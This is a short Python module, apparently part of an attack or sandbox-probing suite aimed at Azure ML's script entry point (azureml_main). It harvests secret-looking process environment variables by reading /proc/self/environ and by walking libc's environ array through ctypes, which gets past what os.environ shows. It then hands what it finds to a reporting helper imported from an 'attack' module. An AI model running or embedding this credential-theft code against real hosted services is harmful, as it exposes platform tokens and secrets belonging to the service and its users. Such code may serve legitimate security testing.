"""Looks for secrets among the variables that its process was started with, which os.environ does not show."""

import ctypes
import ctypes.util

from attack import LIBC, attack, every, is_secret, told


def by_file():
    with open("/proc/self/environ", "rb") as stream:
        content = stream.read()
    return told("/proc/self/environ", content[:500]) if is_secret(content) else ""


def by_memory():
    variables = ctypes.POINTER(ctypes.c_char_p).in_dll(LIBC, "environ")
    found, number = [], 0
    while variables[number]:
        found.append(variables[number])
        number += 1
    secret = [each for each in found if is_secret(each)]
    return told("environ", b" ".join(secret))


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda way: way(), [by_file, by_memory])
